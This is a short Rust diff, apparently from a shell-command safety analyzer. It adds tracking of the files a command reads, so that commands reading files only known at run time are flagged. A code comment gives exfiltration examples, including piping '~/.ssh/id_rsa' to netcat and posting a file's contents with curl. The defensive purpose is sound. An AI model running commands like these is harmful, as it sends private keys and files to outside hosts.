@@ -143,6 +143,11 @@ pub struct Command {
     /// arguments (`tee FILE`, `dd of=FILE`, the destination of `cp`, `mv`, `install`,
     /// `ln`, `sed -i FILE`, `truncate FILE`…). A target only known at run time is unknown.
     pub writes: Vec<Arg>,
+    /// Files whose contents may reach the command: its input redirections (`< FILE`), and
+    /// the words and input files of the commands that feed it through a pipe or a command
+    /// substitution in its arguments (`cat ~/.ssh/id_rsa | nc host 443`, `curl -d
+    /// "$(cat FILE)"`). Words only known at run time are left out.
+    pub reads: Vec<Arg>,
 }
 
 impl Command {
@@ -160,6 +165,7 @@ impl Command {
             || self
                 .writes
                 .iter()
+                .chain(&self.reads)
                 .any(|target| !target.known || target.free)
     }
 }
